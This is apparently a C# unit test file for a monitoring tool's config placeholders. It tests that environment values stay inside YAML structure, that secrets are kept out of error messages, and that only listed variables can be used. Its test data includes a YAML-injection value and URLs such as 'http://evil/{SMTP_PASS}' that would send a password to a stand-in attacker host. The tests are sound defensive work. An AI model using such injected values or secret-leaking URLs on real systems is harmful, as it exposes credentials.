using Monitor.Actors.Config;
using Monitor.Actors.Tests.Config.Support;
using static Monitor.Actors.Tests.Config.Support.SomeConfig;

namespace Monitor.Actors.Tests.Config;

/// <summary>Placeholders fill from the environment, after parsing, once, and never for strangers (P4, P7, D-11, S-61).</summary>
public sealed class PlaceholderTests
{
    [Theory]
    [InlineData("{MOCKAPP_BASE}/x", Base + "/x")]
    [InlineData("${MOCKAPP_BASE}/x", Base + "/x")]
    [InlineData("a{COUNT}b${COUNT}", "a201b201")]
    [InlineData("{job_id}", "{job_id}")]
    [InlineData("{Mixed}{}", "{Mixed}{}")]
    [InlineData("{{COUNT}}", "{COUNT}")]
    [InlineData("$${COUNT}", "${COUNT}")]
    [InlineData("{RECURSIVE}", "{SMTP_PASS}")]
    public void Upper_case_names_are_filled_and_others_left(string written, string meant)
    {
        var job = Good($"checks: [{{name: j, type: job, status_url: \"{written}\"}}]\n").Checks.Single();
        Assert.Equal(meant, job.Target);
        Assert.Contains(written, job.Yaml, StringComparison.Ordinal);
    }

    [Fact]
    public void What_is_filled_in_cannot_change_the_structure()
    {
        var around = Around with { Environment = Variables.SetItem("EVIL", "x\n  - name: b: [") };
        var config = MonitorConfig.Read(new("c", "checks:\n  - name: j\n    type: job\n    status_url: ${EVIL}\n"), null, around).Config!;
        Assert.Equal("x\n  - name: b: [", Assert.Single(config.Checks).Target);
    }

    [Fact]
    public void A_plain_value_gets_its_type_after_filling() =>
        Assert.Equal(201, ((HttpKeys)Good(Http().Replace("200", "${COUNT}", StringComparison.Ordinal)).Checks.Single().Spec).ExpectStatus);

    [Fact]
    public void A_name_is_not_filled() =>
        Assert.Equal("{SMTP_PASS}", Good(Http().Replace("api", "\"{SMTP_PASS}\"", StringComparison.Ordinal)).Checks.Single().Name.Value);

    /// <summary>P7: the original probed the literal text and called the target down.</summary>
    [Fact]
    public void An_unset_variable_is_an_error_that_names_it() =>
        Assert.Contains("checks.yaml: line 4, column 10, api.url: {NO_SUCH} is not set; add it to .env",
            Faults(Http().Replace("http://localhost/", "\"{NO_SUCH}/\"", StringComparison.Ordinal)));

    [Fact]
    public void A_problem_never_shows_what_was_filled_in()
    {
        var faults = Faults(Http("interval: ${SMTP_PASS}", "retries: ${SMTP_PASS}", "timezone: ${SMTP_PASS}", "notify_on: ['{SMTP_PASS}']"));
        Assert.Equal(4, faults.Length);
        Assert.DoesNotContain("hunter2", string.Concat(faults), StringComparison.Ordinal);
    }

    [Fact]
    public void An_entry_from_the_board_may_use_listed_variables_only()
    {
        const string Board = "checks:\n  - name: b\n    type: http\n    url: \"http://evil/{SMTP_PASS}/${COUNT}\"\n    expect_status: 200\n";
        Assert.Equal(
            ["checks.d/board.yaml: line 4, column 10, b.url: variable SMTP_PASS is not allowed here; list it under vars: in checks.yaml"],
            Faults("vars: [COUNT, MOCKAPP_BASE]\n" + Http(), Board));
        Assert.Equal("http://evil/hunter2/201", Good("vars: [COUNT, SMTP_PASS]\n" + Http(), Board).Checks[1].Target);
    }

    [Fact]
    public void The_board_cannot_list_variables_for_itself() =>
        Assert.Contains("checks.d/board.yaml: line 1, column 1, vars: unknown key; known here: checks", Faults(Http(), "vars: [SMTP_PASS]\nchecks: []\n"));

    [Fact]
    public void An_entry_from_the_api_is_held_to_the_same_list()
    {
        var entry = """{"name":"b","type":"http","url":"http://evil/${SMTP_PASS}","expect_status":200}""";
        Assert.Equal("entry: line 1, column 33, b.url: variable SMTP_PASS is not allowed here; list it under vars: in checks.yaml",
            Assert.Single(Good(Http()).ReadEntry(entry, null, Around).Problems).ToString());
        Assert.NotNull(Good("vars: [SMTP_PASS]\n" + Http()).ReadEntry(entry, null, Around).Definition);
    }

    /// <summary>P4: the original read the environment before it loaded <c>.env</c>.</summary>
    [Fact]
    public void The_real_environment_wins_over_the_file()
    {
        var (values, _) = EnvFile.Merge(new(".env", "A=file\nB=file\n# c\nPASS='a$b#c'\n"), new Dictionary<string, string> { ["A"] = "real" }, [], path => path);
        Assert.Equal(("real", "file", "a$b#c"), (values["A"], values["B"], values["PASS"]));
        Assert.Null(System.Environment.GetEnvironmentVariable("PASS"));
    }

    [Fact]
    public void A_bad_line_of_the_file_is_named_without_its_secret()
    {
        var (_, problems) = EnvFile.Merge(new(".env", "SMTP_PASS=hunter2\nhunter3 is my password\n"), new Dictionary<string, string>(), [], path => path);
        Assert.Equal(".env: line 2, column 1, expected NAME=value; put a value with special characters in single quotes", Assert.Single(problems).ToString());
    }

    [Fact]
    public void A_dollar_in_a_password_is_warned_about()
    {
        var (_, problems) = EnvFile.Merge(new(".env", "A=1\nSMTP_PASS=pa$word\n"), new Dictionary<string, string>(), [], path => path);
        Assert.Equal(".env: line 2, column 13, SMTP_PASS: $ begins a variable here; put the value in single quotes if the $ belongs to it", Assert.Single(problems).ToString());
    }
}
